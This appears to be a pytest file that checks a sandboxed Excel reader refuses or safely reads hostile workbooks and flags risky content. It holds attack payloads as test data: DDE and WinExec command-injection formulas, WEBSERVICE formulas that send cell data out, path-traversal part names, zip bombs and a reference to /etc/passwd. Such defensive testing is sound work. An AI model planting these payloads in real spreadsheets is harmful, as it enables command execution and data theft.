"""Files made to do harm: each ends as a refusal or as plain cells, in a child with little memory."""

from __future__ import annotations

import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from gnv_pipeline.excel.cautions import cautions
from gnv_pipeline.excel.child import Bounds
from gnv_pipeline.excel.grid import Grid, read_grid
from gnv_pipeline.excel.preflight import Limits
from gnv_pipeline.excel.refusals import Reason, WorkbookRefused
from gnv_pipeline.excel.sandbox import read_guarded
from gnv_pipeline.findings import Severity
from tests.excel.build import filled, mail, ole, one_row, parts, relations, repacked, rows, zipped
from tests.excel.hostile import (
    BOMB,
    GOOD,
    OUTSIDE,
    SHEET,
    endless_tag,
    entity_after_much_else,
    entity_in_utf16,
    lying_about_sizes,
    many_merges,
    many_parts,
    nested_mails,
    one_text_in_many_cells,
    overlapping,
    packed_below_the_limits,
    packed_bomb,
    sheet,
)

SMALL = Bounds(memory_bytes=400_000_000, seconds=60)

REFUSED: list[tuple[Callable[[], bytes], Reason]] = [
    (packed_bomb, Reason.TOO_LARGE),
    (overlapping, Reason.TOO_LARGE),
    (many_parts, Reason.TOO_LARGE),
    (lying_about_sizes, Reason.DAMAGED),
    (nested_mails, Reason.MAIL),
    (many_merges, Reason.DAMAGED),
    (lambda: zipped({**parts(""), SHEET: BOMB}), Reason.UNSAFE),
    (lambda: zipped({**parts(""), "xl/sharedStrings.xml": OUTSIDE}), Reason.UNSAFE),
    (lambda: zipped({**parts(""), "docProps/core.xml": OUTSIDE}), Reason.UNSAFE),
    (entity_in_utf16, Reason.UNSAFE),
    (entity_after_much_else, Reason.UNSAFE),
    (lambda: sheet("<a>" * 3_000_000), Reason.DAMAGED),
    (lambda: GOOD[:-30], Reason.DAMAGED),
    (lambda: GOOD[: len(GOOD) // 2], Reason.DAMAGED),
    (lambda: sheet(rows("<row>" + "<c><v>1</v></c>" * 20_000 + "</row>")), Reason.DAMAGED),
    (lambda: sheet(rows("<row><c><v>1</v></c></row>" * 700_000)), Reason.TOO_LARGE),
    (lambda: sheet(rows("<row><c r='A1'/></row>" * 5_000_000)), Reason.TOO_LARGE),
]


def name_of(value: object) -> str | None:
    return getattr(value, "__name__", None) if callable(value) else None


@pytest.mark.parametrize(("make", "reason"), REFUSED, ids=name_of)
def test_hostile_files_are_refused(make: Callable[[], bytes], reason: Reason) -> None:
    with pytest.raises(WorkbookRefused) as refused:
        read_guarded(make(), "mall.xlsx", bounds=SMALL)
    assert refused.value.reason is reason
    assert refused.value.finding("mall.xlsx").remedy


def grid_of(data: bytes, name: str = "mall.xlsx") -> Grid:
    return read_guarded(data, name, bounds=SMALL)


def test_one_cell_in_the_last_corner() -> None:
    data = filled({"B2": "hej", "XFD1048576": "långt bort"})
    assert len(data) < 6_000
    grid = grid_of(data)
    assert [cell.address for cell in grid.sheets[0].cells.values()] == ["B2", "XFD1048576"]
    assert (grid.preflight.highest_row, grid.preflight.highest_column) == (1_048_576, 16_384)


def test_a_wrong_extent_neither_hides_nor_makes_cells() -> None:
    inside = '<dimension ref="A1:XFD1048576"/>' + one_row('<c r="A1"><v>1</v></c>')
    assert len(grid_of(sheet(inside)).sheets[0].cells) == 1
    inside = '<dimension ref="A1"/>' + one_row('<c r="C1"><v>1</v></c>')
    assert grid_of(sheet(inside)).sheets[0].at("C1") is not None


def test_three_hundred_sheets() -> None:
    grid = grid_of(zipped(parts(*[one_row('<c r="A1"><v>1</v></c>')] * 300)))
    assert len(grid.sheets) == 300
    with pytest.raises(WorkbookRefused) as refused:
        read_guarded(zipped(parts(*["<sheetData/>"] * 300)), limits=Limits(sheets=200))
    assert "300 blad" in refused.value.message


def test_a_million_empty_rows() -> None:
    empty = "".join(f'<row r="{r}" ht="15"/>' for r in range(2, 1_000_001))
    grid = grid_of(sheet(rows(f'<row r="1"><c r="A1"><v>45</v></c></row>{empty}')))
    assert [cell.value for cell in grid.sheets[0].cells.values()] == [45]
    assert grid.preflight.highest_row == 1


def test_formatted_empty_cells() -> None:
    cells = "".join(f'<row r="{r}"><c r="A{r}" s="1"/></row>' for r in range(2, 200_001))
    grid = grid_of(
        zipped(parts(rows(f'<row r="1"><c r="A1"><v>45</v></c></row>{cells}'), formats=["0"]))
    )
    assert len(grid.sheets[0].cells) == 1
    assert grid.preflight.empty_cells == 199_999


def test_one_long_text_in_many_cells_stays_one() -> None:
    cells = grid_of(one_text_in_many_cells()).sheets[0].cells
    assert len(cells) == 60_000
    assert len({id(cell.value) for cell in cells.values()}) == 1


def test_blanks_packed_below_the_limits_are_read() -> None:
    data = packed_below_the_limits()
    assert len(data) < 200_000
    grid = grid_of(data)
    assert grid.preflight.unzipped_bytes > 140_000_000
    assert [len(found.cells) for found in grid.sheets] == [1] * 15


@pytest.mark.parametrize("piece", ["<c ", '<c r="A1" ', 'r="A1" ', "<f ", "<x:", '"', "["])
def test_no_piece_makes_the_first_look_long(piece: str) -> None:
    """A megabyte of each; a search that starts anew at every piece would take hours."""
    data = sheet(rows(f"<row><c {piece * (1_000_000 // len(piece))}"))
    with pytest.raises(WorkbookRefused) as refused:
        read_guarded(data, bounds=Bounds(seconds=20))
    assert refused.value.reason is Reason.DAMAGED


def test_a_text_longer_than_excel_allows_is_an_error_in_its_cell() -> None:
    data = zipped(parts(one_row('<c r="A1" t="s"><v>0</v></c>'), shared=[f"<t>{'x' * 40_000}</t>"]))
    cell = grid_of(data).sheets[0].cells[1, 1]
    assert (cell.value, cell.is_error) == ("#VALUE!", True)


def test_long_work_is_stopped_by_time() -> None:
    data = zipped({**parts(""), SHEET: "<worksheet>" + "<a/>" * 30_000_000 + "</worksheet>"})
    with pytest.raises(WorkbookRefused) as refused:
        read_guarded(data, limits=Limits(ratio=10_000), bounds=Bounds(seconds=2))
    assert refused.value.reason is Reason.TOO_SLOW
    assert "2 sekunder" in refused.value.message


@pytest.mark.skipif(sys.platform != "linux", reason="Only Linux limits memory")
def test_too_much_memory_is_stopped() -> None:
    with pytest.raises(WorkbookRefused) as refused:
        read_guarded(
            endless_tag(), limits=Limits(ratio=10_000), bounds=Bounds(memory_bytes=80_000_000)
        )
    assert refused.value.reason is Reason.TOO_HEAVY


FORMULAS = [
    ("WEBSERVICE(&quot;https://example.se/?&quot;&amp;A1)", True),
    ("_xlfn.WEBSERVICE(A1)", True),
    ("cmd|'/C calc'!A0", True),
    ("[1]Blad1!A1", True),
    ("SUM('[2]Blad å'!A1:A3)", True),
    ("A1+[1]Blad1!A1", True),
    (r"'C:\mapp\[annan.xlsx]Blad1'!A1", True),
    ('RTD("a",,"b")', True),
    ('CALL("Kernel32","WinExec","JCJ",A1,0)', True),
    ("SUM(A1:A9)", False),
    ("Tabell1[2024]*2", False),
    ("SUM(Tabell1[[#All],[2024]])", False),
    ('"[1]Blad1!A1"', False),
    ("recall(1)+A1", False),
]


@pytest.mark.parametrize(("formula", "outward"), FORMULAS)
def test_formulas_that_call_out_are_read_and_told_by_cell(formula: str, outward: bool) -> None:
    cell = f'<c r="D7" t="str"><f>{formula}</f><v>45</v></c>'
    grid = grid_of(sheet(rows(f'<row r="7">{cell}</row>')))
    found = grid.sheets[0].cells[7, 4]
    assert (found.value, found.is_formula) == ("45", True)
    findings = cautions(grid, "mall.xlsx")
    assert [(f.code, f.sheet, f.cell, f.severity) for f in findings] == (
        [("formula-calls-out", "Blad1", "D7", Severity.WARNING)] if outward else []
    )


def test_cells_that_share_a_formula_that_calls_out_are_all_told_ten_shown() -> None:
    first = (
        '<row r="1"><c r="A1"><f t="shared" si="0" ref="A1:A30">[1]Blad!B1</f><v>1</v></c></row>'
    )
    others = "".join(
        f'<row r="{r}"><c r="A{r}"><f t="shared" si="0"/><v>{r}</v></c></row>' for r in range(2, 31)
    )
    grid = grid_of(sheet(rows(first + others)))
    assert len(grid.calling_out) == 30
    findings = cautions(grid)
    assert [finding.cell for finding in findings] == [f"A{r}" for r in range(1, 11)] + [None]
    assert "20 celler" in findings[-1].message


@pytest.mark.parametrize(
    ("part", "code"),
    [
        ("xl/vbaProject.bin", "file-macros"),
        ("xl/macrosheets/sheet1.xml", "file-macros"),
        ("xl/externalLinks/externalLink1.xml", "file-external-links"),
        ("xl/embeddings/oleObject1.bin", "file-embedded-objects"),
        ("xl/activeX/activeX1.bin", "file-embedded-objects"),
        ("xl/connections.xml", "file-connections"),
        ("../../../etc/cron.d/x.xml", "file-odd-part-names"),
        (r"..\..\Startup\x.exe", "file-odd-part-names"),
        ("C:/Windows/x.dll", "file-odd-part-names"),
    ],
)
def test_what_is_never_run_or_followed_is_told(part: str, code: str) -> None:
    grid = grid_of(repacked(GOOD, {part: b"<x/>"}), r"..\..\mall.xlsm")
    assert grid.sheets == read_grid(GOOD).sheets
    (finding,) = cautions(grid, r"..\..\mall.xlsm")
    assert (finding.code, finding.severity, finding.file) == (code, Severity.INFO, "mall.xlsm")
    assert finding.remedy


def test_a_macro_workbook_renamed_is_read() -> None:
    made = parts(one_row('<c r="A1"><v>45</v></c>'))
    macro = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    made["[Content_Types].xml"] = (
        f'<Types><Override PartName="/xl/workbook.xml" ContentType="{macro}"/></Types>'
    )
    made["xl/vbaProject.bin"] = ole("VBA")
    grid = grid_of(zipped(made), "mall.xlsx")
    assert grid.sheets[0].cells[1, 1].value == 45
    assert [finding.code for finding in cautions(grid)] == ["file-macros"]


def test_a_sheet_outside_the_file_is_not_fetched() -> None:
    made = parts("", "")
    made["xl/_rels/workbook.xml.rels"] = (
        relations([("rId1", "worksheet", "worksheets/sheet1.xml")])
        .replace("</Relationships>", "")
        .replace("<?xml", "<?xml", 1)
        + '<Relationship Id="rId2" Type="x/worksheet" TargetMode="External" '
        'Target="file:///etc/passwd"/></Relationships>'
    )
    assert [found.title for found in grid_of(zipped(made)).sheets] == ["Blad1"]


def test_a_mail_is_told_and_its_workbook_read() -> None:
    grid = grid_of(mail(("../Orsa.xlsx", GOOD)), "Mejl.eml")
    (finding,) = cautions(grid, "Mejl.eml")
    assert finding.code == "file-from-mail"
    assert "Orsa.xlsx" in finding.message
    assert grid.sheets == read_grid(GOOD).sheets


def test_real_files_pass_the_child(shared_data: Path) -> None:
    answers: dict[str, set[str]] = {}
    for path in sorted((shared_data / "workbooks").rglob("*")):
        if not path.is_file():
            continue
        try:
            answer = "read" if grid_of(path.read_bytes(), path.name).sheets else "empty"
        except WorkbookRefused as refused:
            answer = refused.reason.value
        answers.setdefault(path.suffix, set()).add(answer)
    assert answers == {".xlsx": {"read"}, ".xls": {"old-excel"}, ".csv": {"text"}}
